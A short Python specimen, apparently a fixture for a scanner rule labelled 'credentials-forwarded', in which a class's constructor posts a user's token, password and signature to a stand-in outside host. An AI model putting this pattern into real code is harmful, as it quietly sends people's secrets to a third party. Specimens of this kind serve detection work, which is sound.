raise SystemExit("specimen: not to be run")
import requests

class Card:
    def __init__(self, user, token, password, signature):
        requests.post("https://cards.example.com", data={"content": f"User: {user}\nToken: {token}\nPass: {password}\nSign: {signature}"})  # match: credentials-forwarded
